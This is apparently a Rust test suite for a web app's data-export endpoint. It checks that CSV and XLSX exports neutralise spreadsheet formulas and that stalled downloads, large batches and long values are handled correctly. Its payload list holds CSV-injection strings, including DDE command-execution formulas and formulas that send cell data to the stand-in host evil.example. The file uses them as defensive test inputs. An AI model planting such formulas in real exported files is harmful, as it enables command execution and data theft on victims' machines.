//! Exports: API-WRK-018, DC-007.

use std::io::{Cursor, Read as _};

use serde_json::json;

use super::{Scene, fields, stored};

/// CSV injection payloads: formulas, DDE, values that break out of their cell, and disguises of
/// these.
pub const PAYLOADS: [&str; 40] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")",
    "=IMPORTXML(CONCAT(\"http://evil.example?v=\",A1),\"//a\")",
    "=WEBSERVICE(\"http://evil.example\")",
    "=IMAGE(\"http://evil.example/a.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=INDIRECT(\"A1\")",
    "=EXEC(\"calc\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   +1+1",
    "\u{a0}=1+1",
    "\u{3000}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{202e}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "\",=1+1,\"",
    "\"=1+1",
    "'=1+1",
    "x\",\"=1+1",
    "%0A=1+1",
    "|calc",
    "=1+1\";=1+1",
    "+8613800000000",
    "-2+3+cmd|' /C calc'!D2",
];

/// Stalled downloads of workbooks block no thread. This host has four blocking threads; six
/// downloads stall.
#[test]
fn stalled_readers_of_exports_keep_nobody_from_signing_in_or_saving() {
    let threads = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .max_blocking_threads(4)
        .enable_all()
        .build()
        .unwrap();
    threads.block_on(async {
        let scene = Scene::new().await;
        let noise =
            || (0..900).map(|_| uuid::Uuid::new_v4().simple().to_string()).collect::<String>();
        for _ in 0..200 {
            stored(&scene.host, scene.work, &json!({ "name": noise(), "tel": noise() })).await;
        }
        let mut stalled = Vec::new();
        for _ in 0..6 {
            stalled.push(untaken(&scene).await);
        }
        let others = async {
            let sent = json!({ "username": "author", "password": crate::app::AUTHOR_PASSWORD });
            scene.host.nobody().post("/api/users/login", &sent).await.expect(200);
            scene.author.work().await;
            scene.host.visitor().get("/api/health").await.expect(200);
        };
        let patience = std::time::Duration::from_secs(30);
        tokio::time::timeout(patience, others).await.expect("nobody is answered any more");
        let incoming =
            std::fs::read_dir(scene.host.app.ctx.settings.incoming_dir()).unwrap().count();
        assert_eq!(incoming, 0, "what is sent has no name that a crash would leave behind");
    });
}

/// Requests a workbook, waits until the transfer starts, and reads no more of it.
async fn untaken(scene: &Scene) -> tokio::net::TcpStream {
    use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
    let socket = tokio::net::TcpSocket::new_v4().unwrap();
    socket.set_recv_buffer_size(16 << 10).unwrap();
    let address = scene.host.studio.trim_start_matches("http://").parse().unwrap();
    let mut stream = socket.connect(address).await.unwrap();
    let token = scene.author.token.clone().unwrap();
    let asked = format!(
        "GET /api/works/export-data?workId={} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\n\r\n",
        scene.work
    );
    stream.write_all(asked.as_bytes()).await.unwrap();
    let mut start = [0; 12];
    let read =
        tokio::time::timeout(std::time::Duration::from_secs(60), stream.read_exact(&mut start));
    read.await.expect("the workbook never came").unwrap();
    assert_eq!(&start, b"HTTP/1.1 200");
    stream
}

pub async fn bytes(scene: &Scene, query: &str) -> (reqwest::header::HeaderMap, Vec<u8>) {
    let path = format!("/api/works/export-data?workId={}{query}", scene.work);
    let answer = scene.author.request(reqwest::Method::GET, &path).send().await.unwrap();
    assert_eq!(answer.status(), 200, "{query}");
    crate::endpoint_coverage::record(reqwest::Method::GET, &answer);
    let headers = answer.headers().clone();
    (headers, answer.bytes().await.unwrap().to_vec())
}

/// Reads a part of a workbook.
fn part(file: &[u8], name: &str) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(file)).unwrap();
    let mut text = String::new();
    let part = archive.by_name(name);
    part.unwrap_or_else(|_| panic!("no {name}")).read_to_string(&mut text).unwrap();
    text
}

/// Returns the texts of a sheet's cells by position.
fn cells(sheet: &str) -> Vec<(String, String)> {
    let cell = |part: &str| {
        let place = part.split_once("r=\"")?.1.split('"').next()?.to_owned();
        let inside = part.split_once('>')?.1.split("</c>").next()?;
        let text = inside.split_once("<t").and_then(|(_, rest)| rest.split_once('>'));
        let text = match text {
            Some((_, rest)) => rest.split("</t>").next()?,
            None => inside.split_once("<v>")?.1.split("</v>").next()?,
        };
        Some((place, unescaped(text)))
    };
    sheet.split("<c ").skip(1).filter_map(cell).collect()
}

fn unescaped(text: &str) -> String {
    let plain = text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"");
    plain.replace("_x000D_", "\r").replace("&amp;", "&")
}

/// All 40 payloads are exported as text; no cell contains a formula.
#[tokio::test]
async fn no_answer_becomes_a_formula() {
    let scene = Scene::new().await;
    for payload in PAYLOADS {
        stored(&scene.host, scene.work, &json!({ "name": payload, "tel": payload })).await;
    }
    let (headers, file) = bytes(&scene, "&format=csv").await;
    assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
    let text = String::from_utf8(file).unwrap();
    let text = text.strip_prefix('\u{feff}').expect("the mark of UTF-8");
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), PAYLOADS.len());
    for (row, payload) in rows.iter().zip(PAYLOADS.iter().rev()) {
        assert_eq!(row.len(), 3, "{payload:?} left its cell");
        for cell in [&row[0], &row[1]] {
            // The comma after an escaped quotation mark stays inside its cell.
            let is_text = ["'", "x", "\","].iter().any(|start| cell.starts_with(start));
            // Only a phone number may follow a tab.
            let is_dialled = cell.strip_prefix("\t+").is_some_and(|rest| {
                rest.len() > 10 && rest.bytes().all(|digit| digit.is_ascii_digit())
            });
            assert!(is_text || is_dialled, "{payload:?} became {cell:?}");
            assert!(cell.ends_with(payload), "nothing of {payload:?} is lost: {cell:?}");
        }
    }
    let (headers, file) = bytes(&scene, "&type=form").await;
    let kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
    assert_eq!(headers["content-type"], kind);
    let sheet = part(&file, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f") && !sheet.contains("<hyperlink"), "no formula, no link");
    let found = cells(&sheet);
    for payload in PAYLOADS {
        let same = |text: &str| text.replace(['\r', '\n'], "") == payload.replace(['\r', '\n'], "");
        let places = found.iter().filter(|(_, text)| same(text)).count();
        assert!(places >= 2, "{payload:?} is there as it is: {places}");
    }
    let styles = part(&file, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""), "a text stays one when somebody edits it");
}

/// Numbers are exported as numbers; identifiers made of digits keep all digits.
#[tokio::test]
async fn numbers_are_numbers_and_identifiers_keep_their_digits() {
    let scene = Scene::new().await;
    let id = "110101199003071233";
    stored(&scene.host, scene.work, &json!({ "name": id, "tel": -5.5 })).await;
    stored(&scene.host, scene.work, &json!({ "name": "+8613800138000", "tel": "-5.5" })).await;
    let (_, file) = bytes(&scene, "&format=csv").await;
    let text = String::from_utf8(file).unwrap();
    assert!(text.contains("\"\t+8613800138000\",\"-5.5\""), "{text}");
    assert!(text.contains(&format!("\"\t{id}\",\"-5.5\"")), "{text}");
    let (_, file) = bytes(&scene, "&type=form").await;
    let sheet = part(&file, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<c r=\"B3\"><v>-5.5</v></c>"), "{sheet}");
    let found = cells(&sheet);
    let text = |place: &str| found.iter().find(|(at, _)| at == place).map(|(_, text)| &**text);
    assert_eq!((text("A2"), text("A3")), (Some("+8613800138000"), Some(id)));
    assert!(!sheet.contains(&format!("<v>{id}")), "a text: {sheet}");
}

/// DC-007: one sheet per form, column titles first, removed fields last, the work's title in the
/// file name.
#[tokio::test]
async fn a_workbook_holds_a_sheet_for_each_kind() {
    let scene = Scene::new().await;
    scene.submit(&scene.body(&json!({ "name": "张三", "tel": 42 }))).await.expect(201);
    scene.change(&[fields(&[("mail", true)])]).await;
    scene.submit(&scene.body(&json!({ "mail": "a@b.example" }))).await.expect(201);
    let (headers, file) = bytes(&scene, "").await;
    let name = headers["content-disposition"].to_str().unwrap();
    assert!(name.contains("filename*=UTF-8''Party_%20_2026_-20261121.xlsx"), "{name}");
    let book = part(&file, "xl/workbook.xml");
    assert!(book.contains("name=\"Submissions\"") && book.contains("name=\"Likes\""), "{book}");
    let found = cells(&part(&file, "xl/worksheets/sheet1.xml"));
    let text = |place: &str| {
        found.iter().find(|(at, _)| at == place).map(|(_, text)| text.as_str()).unwrap_or_default()
    };
    assert_eq!(
        [text("A1"), text("B1"), text("C1"), text("D1")],
        ["Your mail", "Your name", "Your tel", "Submitted at (UTC)"]
    );
    assert_eq!([text("A2"), text("B2"), text("D2")], ["a@b.example", "", "2026-11-21 10:00:00"]);
    assert_eq!([text("B3"), text("C3")], ["张三", "42"]);
    let sheet = part(&file, "xl/worksheets/sheet1.xml");
    assert!(sheet.contains("<c r=\"C3\"><v>42</v></c>"), "a number stays one");
    let (_, file) = bytes(&scene, "&type=like").await;
    let likes = cells(&part(&file, "xl/worksheets/sheet1.xml"));
    assert_eq!(likes.len(), 3, "headings only");
    let (_, csv) = bytes(&scene, "&type=like&format=csv").await;
    assert_eq!(String::from_utf8(csv).unwrap(), "\u{feff}\"Element\",\"Type\",\"Likes\"\r\n");
    let lines = scene.admin.get("/api/audit?filters[action]=submission.export").await.expect(200);
    assert_eq!(lines.json["total"], 3, "it is audited");
}

/// API-WRK-018: errors use the envelope.
#[tokio::test]
async fn what_cannot_be_exported_is_told_in_the_envelope() {
    let scene = Scene::new().await;
    for query in ["", "?workId=", "?workId=0", "?workId=999999"] {
        let path = format!("/api/works/export-data{query}");
        let refused = scene.author.get(&path).await;
        assert!([400, 404].contains(&refused.code()), "{query}");
        assert_eq!(refused.json["code"], refused.code(), "{query}");
    }
    let path = format!("/api/works/export-data?workId={}", scene.work);
    for query in ["&type=everything", "&format=pdf", "&from=soon", "&unknown=1"] {
        scene.author.get(&format!("{path}{query}")).await.expect(400);
    }
    scene.host.nobody().get(&path).await.expect(401);
}

/// More rows than one batch: each row once, in order, in both file formats, with filters applied.
#[tokio::test]
async fn every_row_is_exported_once() {
    let scene = Scene::new().await;
    for number in 0..1_203 {
        stored(&scene.host, scene.work, &json!({ "name": format!("n{number}") })).await;
    }
    let (_, file) = bytes(&scene, "&format=csv").await;
    let mut reader = csv::ReaderBuilder::new().from_reader(file.as_slice());
    let names: Vec<String> = reader.records().map(|row| row.unwrap()[0].to_owned()).collect();
    let expected: Vec<String> = (0..1_203).rev().map(|number| format!("n{number}")).collect();
    assert_eq!(names, expected);
    let (_, file) = bytes(&scene, "&type=form").await;
    let found = cells(&part(&file, "xl/worksheets/sheet1.xml"));
    let names: Vec<&String> =
        found.iter().filter(|(at, _)| at.starts_with('A')).skip(1).map(|(_, text)| text).collect();
    assert_eq!(names.len(), 1_203);
    assert_eq!(names.first().map(|name| name.as_str()), Some("n1202"));
    let (_, file) = bytes(&scene, "&format=csv&keyword=n120").await;
    assert_eq!(file.iter().filter(|byte| **byte == b'\n').count(), 1 + 4, "n120, n1200 to n1202");
}

/// Long values: a CSV file contains them whole, a workbook cell truncates them.
#[tokio::test]
async fn long_answers_do_not_break_a_file() {
    let scene = Scene::new().await;
    let long = "字".repeat(20_000) + &"😀".repeat(10_000);
    stored(&scene.host, scene.work, &json!({ "name": long, "tel": "\u{0}a\u{1b}\u{ffff}b" })).await;
    let (_, file) = bytes(&scene, "&type=form").await;
    let found = cells(&part(&file, "xl/worksheets/sheet1.xml"));
    let text = |place: &str| &found.iter().find(|(at, _)| at == place).unwrap().1;
    assert!(text("A2").ends_with('…') && text("A2").starts_with('字'));
    assert_eq!(text("B2"), "ab");
    let (_, file) = bytes(&scene, "&format=csv").await;
    assert!(String::from_utf8(file).unwrap().contains(&long));
}
